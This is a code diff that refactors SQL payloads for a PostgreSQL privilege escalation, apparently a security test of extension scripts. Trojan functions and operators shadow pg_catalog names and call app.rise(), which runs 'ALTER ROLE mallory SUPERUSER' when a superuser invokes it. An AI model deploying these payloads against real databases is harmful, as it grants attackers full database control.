@@ -15,26 +15,30 @@ CREATE SCHEMA app;
 CREATE FUNCTION app.rise() RETURNS void LANGUAGE plpgsql AS $$ BEGIN
     IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE mallory SUPERUSER'; END IF; END $$;
 """
+
+
+def rising(*functions):
+    """Returns statements that create functions, each of which calls `rise`: their arguments and the types and values of their results."""
+    body = "CREATE FUNCTION app.{} RETURNS {} LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN {}; END $$;\n"
+    return "".join(body.format(*function) for function in functions)
+
+
 # Functions and operators that fit calls of any type, in the schema before the extension is created there.
-BEFORE = """
-CREATE FUNCTION app.langtag_eq(anyelement, anyelement) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN true; END $$;
-CREATE FUNCTION app.langtag_lt(anyelement, anyelement) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN true; END $$;
-CREATE FUNCTION app.langtag_cmp(anyelement, anyelement) RETURNS integer LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN 0; END $$;
-CREATE FUNCTION app.langtag_smaller(anyelement, anyelement) RETURNS anyelement LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1; END $$;
-CREATE FUNCTION app.best_for_header(anyarray, text) RETURNS anyelement LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1[1]; END $$;
-CREATE FUNCTION app.matches_basic(anyelement, anyelement) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN true; END $$;
+BEFORE = rising(
+    ("langtag_eq(anyelement, anyelement)", "boolean", "true"), ("langtag_lt(anyelement, anyelement)", "boolean", "true"),
+    ("langtag_cmp(anyelement, anyelement)", "integer", "0"), ("langtag_smaller(anyelement, anyelement)", "anyelement", "$1"),
+    ("best_for_header(anyarray, text)", "anyelement", "$1[1]"), ("matches_basic(anyelement, anyelement)", "boolean", "true"),
+) + """
 CREATE OPERATOR app.= (LEFTARG = anyelement, RIGHTARG = anyelement, FUNCTION = app.langtag_eq);
 CREATE OPERATOR app.< (LEFTARG = anyelement, RIGHTARG = anyelement, FUNCTION = app.langtag_lt);
 """
 # Functions and operators that fit the calls of the update script better than those of pg_catalog.
-AFTER = """
-CREATE FUNCTION app.format(text, regclass) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN 'REINDEX INDEX ' || $2; END $$;
-CREATE FUNCTION app.format(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1; END $$;
-CREATE FUNCTION app.format(text, name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1; END $$;
-CREATE FUNCTION app.format(text, regclass, text, name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1; END $$;
-CREATE FUNCTION app.same(oid, regclass) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1 = $2::oid; END $$;
+AFTER = rising(
+    ("format(text, regclass)", "text", "'REINDEX INDEX ' || $2"),
+    *((f"format({taken})", "text", "$1") for taken in ("text, text", "text, name", "text, regclass, text, name")),
+    ("same(oid, regclass)", "boolean", "$1 = $2::oid"), ("joined(text, name)", "text", "$1"),
+) + """
 CREATE OPERATOR app.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = app.same);
-CREATE FUNCTION app.joined(text, name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM app.rise(); RETURN $1; END $$;
 CREATE OPERATOR app.|| (LEFTARG = text, RIGHTARG = name, FUNCTION = app.joined);
 """
 TABLE = """
